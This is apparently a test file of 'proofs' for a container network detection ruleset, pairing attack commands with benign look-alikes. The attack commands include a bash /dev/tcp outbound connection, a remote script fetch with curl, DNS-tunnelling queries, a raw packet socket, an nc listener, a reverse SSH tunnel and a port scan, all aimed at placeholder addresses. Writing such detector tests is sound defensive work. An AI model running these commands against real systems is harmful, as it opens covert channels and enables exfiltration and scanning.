# SPDX-License-Identifier: Apache-2.0
"""80-network.yaml: connections that nobody ordered.  All addresses are the container's own (see peers.py)."""

from __future__ import annotations

from proof import Proof, Python

CONNECT = "import socket; socket.create_connection((\"203.0.113.9\", {}))"
QUERY = """
import socket
resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for number in range({}):
    resolver.sendto(b"%032x.tunnel.example" % number, ("203.0.113.9", 53))
"""
MANY = """
import socket
for number in range(1, 121):
    socket.socket().connect_ex(({}, 9))
"""

PROOFS = [
    Proof("Raw socket opened in a container",
          attack=Python("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
          # The kernel looks at the low half of each register only.
          others=(Python("import calls; assert calls.socket(1 << 40 | 17, 5 << 32 | 3, 0) >= 0"),),
          look_alike="ip -br address >/dev/null; ss -tln >/dev/null"),

    Proof("Shell connects by itself", attack="bash -c 'exec 3<>/dev/tcp/203.0.113.9/443'",
          look_alike="curl -s http://203.0.113.9/script; bash -c 'exec 3<>/dev/tcp/10.1.1.1/80; echo >&3'"),

    Proof("Shell connects to a neighbour", attack="bash -c 'exec 3<>/dev/tcp/10.1.1.1/80'",
          look_alike="curl -s http://10.1.1.1/script; bash -c 'exec 3<>/dev/tcp/127.0.0.1/80'"),

    Proof("New program connects", before="cp /usr/bin/python3.11 /srv/python",
          attack=f"/srv/python -c '{CONNECT.format(443)}'",
          look_alike=Python(CONNECT.format(443))),

    Proof("Unexpected program listens", before="ln -s /usr/bin/busybox /usr/local/bin/nc",
          attack="timeout 1 nc -l -p 4445 || true",
          look_alike=Python("import socket; socket.create_server((\"0.0.0.0\", 8080))")),

    Proof("Scan from a container", attack=Python(MANY.format('f"198.51.100.{number}"')),
          look_alike=Python(MANY.format('"198.51.100.1"'))),

    Proof("Tunnel or relay started", before="ln -s /usr/bin/true /usr/local/bin/ssh",
          attack="ssh -N -R 8080:localhost:80 jump",
          look_alike="ssh -L 5432:db:5432 jump"),

    Proof("Flood of name queries", attack=Python(QUERY.format(700)), look_alike=Python(QUERY.format(20))),

    Proof("SSH to an unusual port", before="ln -sf /usr/bin/python3.11 /usr/local/bin/dbclient",
          attack=f"dbclient -c '{CONNECT.format(443)}'", look_alike=f"dbclient -c '{CONNECT.format(22)}'"),
]
